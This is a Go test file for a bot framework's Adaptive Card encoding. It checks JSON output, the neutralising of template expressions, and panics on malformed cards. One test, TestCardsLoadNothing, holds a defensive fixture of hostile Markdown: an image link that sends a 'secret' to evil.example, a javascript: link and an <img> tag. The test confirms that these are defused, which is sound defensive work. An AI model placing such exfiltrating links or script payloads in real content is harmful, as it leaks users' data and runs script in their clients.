package activity_test

import (
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"
	"github.com/google/go-cmp/cmp"

	"github.com/planbot-go/planbot/activity"
)

func TestCard(t *testing.T) {
	t.Parallel()
	card := activity.Card{Fallback: "Book a room.", Body: []any{
		activity.TextBlock{Text: "Book a *room*", Size: "large", Weight: "bolder", Color: "accent"},
		activity.RichText{{Text: "*as it is*", Mono: true, Subtle: true}, {Text: "Floor", Size: "small", Weight: "bolder"}},
		map[string]any{"type": "Media", "sources": []any{}},
	}, Actions: []any{
		activity.Button{Title: "Book", Verb: "book", Style: "positive", Data: map[string]any{"floor": 3}},
		activity.Button{Title: "Again", Verb: "again"},
		activity.Button{Title: "Cancel", Verb: "cancel", Bare: true},
		activity.Button{Title: "Old", Data: map[string]any{"say": "old"}},
		map[string]any{"type": "Action.ShowCard"},
	}}
	want := `{"type":"AdaptiveCard","$schema":"http://adaptivecards.io/schemas/adaptive-card.json","version":"1.5","fallbackText":"Book a room.","body":[
		{"type":"TextBlock","text":"Book a *room*","size":"large","weight":"bolder","color":"accent","wrap":true},
		{"type":"RichTextBlock","inlines":[
			{"type":"TextRun","text":"*as it is*","isSubtle":true,"fontType":"monospace"},{"type":"TextRun","text":"Floor","size":"small","weight":"bolder"}]},
		{"type":"Media","sources":[]}],
	"actions":[
		{"type":"Action.Execute","title":"Book","verb":"book","style":"positive","data":{"floor":3},"fallback":{"type":"Action.Submit","title":"Book","style":"positive","data":{"floor":3,"verb":"book"}}},
		{"type":"Action.Execute","title":"Again","verb":"again","fallback":{"type":"Action.Submit","title":"Again","data":{"verb":"again"}}},
		{"type":"Action.Execute","title":"Cancel","verb":"cancel","associatedInputs":"none","fallback":{"type":"Action.Submit","title":"Cancel","data":{"verb":"cancel"},"associatedInputs":"none"}},
		{"type":"Action.Submit","title":"Old","data":{"say":"old"}},
		{"type":"Action.ShowCard"}]}`
	at := card.Attachment()
	if at.ContentType != activity.CardContentType {
		t.Errorf("content type %q", at.ContentType)
	}
	if diff := cmp.Diff(generic(t, []byte(want)), generic(t, at.Content)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestTemplateForms: clients show the texts of a card as they stand, wherever they are in it, and send back
// what the bot gave them.
func TestTemplateForms(t *testing.T) {
	t.Parallel()
	const form, broken = "pay {{DATE(2020-01-01T00:00:00Z,SHORT)}} {{{TIME(2020-01-01T00:00:00Z)}}} ${x}", "pay {\u200b{DATE(2020-01-01T00:00:00Z,SHORT)}} {\u200b{\u200b{TIME(2020-01-01T00:00:00Z)}}} $\u200b{x}"
	card := func(text string) string {
		return `{"type":"AdaptiveCard","$schema":"http://adaptivecards.io/schemas/adaptive-card.json","version":"1.5","fallbackText":"` + text + `","body":[
			{"type":"TextBlock","text":"` + text + `","wrap":true},
			{"type":"RichTextBlock","inlines":[{"type":"TextRun","text":"` + text + `"}]},
			{"type":"FactSet","facts":[{"title":"` + text + `","value":"` + text + `"}]},
			{"type":"Input.ChoiceSet","id":"` + form + `","label":"` + text + `","value":"` + form + `","choices":[{"title":"` + text + `","value":"` + form + `"}]},
			{"type":"Container","items":[{"type":"Image","url":"` + form + `","altText":"` + text + `"},{"type":"CodeBlock","codeSnippet":"` + form + `"}]},
			{"type":"RichTextBlock","inlines":["` + text + `"]}],
		"actions":[{"type":"Action.Submit","title":"` + text + `","data":{"text":"` + form + `","n":12345678901234567890}},
			{"type":"Action.ShowCard","title":"` + text + `","card":{"type":"AdaptiveCard","body":[{"type":"TextBlock","text":"` + text + `"}]}}]}`
	}
	made := activity.Card{Fallback: form, Body: []any{
		activity.TextBlock{Text: form},
		activity.RichText{{Text: form}},
		map[string]any{"type": "FactSet", "facts": []any{map[string]string{"title": form, "value": form}}},
		map[string]any{"type": "Input.ChoiceSet", "id": form, "label": form, "value": form, "choices": []any{map[string]string{"title": form, "value": form}}},
		jsontext.Value(strings.ReplaceAll(`{"type":"Container","items":[{"type":"Image","url":"`+form+`","altText":"`+form+`"},{"type":"CodeBlock","codeSnippet":"`+form+`"}]}`, "{{", `\u007b\u007B`)),
		map[string]any{"type": "RichTextBlock", "inlines": []string{form}},
	}, Actions: []any{
		activity.Button{Title: form, Data: map[string]any{"text": form, "n": jsontext.Value("12345678901234567890")}},
		map[string]any{"type": "Action.ShowCard", "title": form, "card": jsontext.Value(`{"type":"AdaptiveCard","body":[{"type":"TextBlock","text":"` + form + `"}]}`)},
	}}
	for name, content := range map[string]jsontext.Value{"made": made.Attachment().Content, "by hand": sent(t, card(form)), "twice": sent(t, string(sent(t, card(form))))} {
		if diff := cmp.Diff(generic(t, []byte(card(broken))), generic(t, content)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
		if !strings.Contains(string(content), "12345678901234567890") {
			t.Errorf("%s: the number is another one", name)
		}
	}
}

// TestCardsLoadNothing: Markdown in a card shows no picture and runs nothing, except where it is shown as it stands.
func TestCardsLoadNothing(t *testing.T) {
	t.Parallel()
	const hostile = `![a](https://evil.example/?q=secret) [b](javascript:alert(1)) [c](https://c.example) <img src=x>`
	const tame = "a (evil.example) [b]\u200b(javascript:alert(1)) [c](https://c.example) <\u200bimg src=x>"
	card := func(shown string) string {
		return `{"type":"AdaptiveCard","version":"1.5","fallbackText":"` + shown + `","body":[
			{"type":"TextBlock","text":"` + shown + `"},
			{"text":"` + shown + `","type":"TextBlock"},
			{"type":"RichTextBlock","inlines":["` + hostile + `",{"type":"TextRun","text":"` + hostile + `"}]},
			{"type":"FactSet","facts":[{"title":"` + shown + `","value":"` + shown + `"}]},
			{"type":"Table","rows":[{"type":"TableRow","cells":[{"type":"TableCell","items":[{"type":"TextBlock","text":"` + shown + `"}]}]}]},
			{"type":"Container","items":[{"type":"Strange","words":"` + shown + `","fallback":{"type":"TextBlock","text":"` + shown + `"}}]},
			{"type":"Input.Toggle","id":"t","title":"` + shown + `","value":"` + hostile + `"},
			{"type":"Input.ChoiceSet","id":"c","label":"` + shown + `","errorMessage":"` + shown + `","value":"` + hostile + `",
				"choices":[{"title":"` + shown + `","value":"` + hostile + `"}]}],
		"actions":[{"type":"Action.Submit","title":"` + hostile + `","data":{"text":"` + hostile + `"}},
			{"type":"Action.ShowCard","title":"` + hostile + `","card":{"type":"AdaptiveCard","body":[{"type":"TextBlock","text":"` + shown + `"}]}}]}`
	}
	if diff := cmp.Diff(generic(t, []byte(card(tame))), generic(t, sent(t, card(hostile)))); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	otherCase := activity.Attachment{ContentType: "Application/vnd.Microsoft.card.adaptive", Content: jsontext.Value(`{"text":"` + hostile + `"}`)}
	if raw, err := json.Marshal(otherCase); err != nil || !strings.Contains(string(raw), "a (evil.example)") {
		t.Errorf("%s, %v", raw, err)
	}
	made := activity.Card{Fallback: "x", Body: []any{activity.TextBlock{Text: hostile}, activity.RichText{{Text: hostile}}}}.Attachment()
	if got := string(made.Content); strings.Count(got, "![a]") != 1 || strings.Count(got, "a (evil.example)") != 1 {
		t.Errorf("got %s", got)
	}
}

// sent is the content of a card that a handler wrote by hand, as a client gets it.
func sent(t *testing.T, card string) jsontext.Value {
	t.Helper()
	a := activity.Activity{Type: activity.Message, Attachments: []activity.Attachment{{ContentType: activity.CardContentType, Content: jsontext.Value(card)}}}
	raw, err := a.Encode()
	if err != nil {
		t.Fatal(err)
	}
	var read struct {
		Attachments []struct {
			Content jsontext.Value `json:"content"`
		} `json:"attachments"`
	}
	if err := json.Unmarshal(raw, &read); err != nil {
		t.Fatal(err)
	}
	return read.Attachments[0].Content
}

func TestCardsThatAreMistakes(t *testing.T) {
	t.Parallel()
	for name, card := range map[string]activity.Card{
		"no fallback":       {Body: []any{activity.TextBlock{Text: "x"}}},
		"data of no object": {Fallback: "x", Actions: []any{activity.Button{Verb: "x", Data: []int{1}}}},
		"data of no JSON":   {Fallback: "x", Actions: []any{activity.Button{Verb: "x", Data: map[string]any{"f": func() {}}}}},
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("%s: no panic", name)
				}
			}()
			card.Attachment()
		}()
	}
}
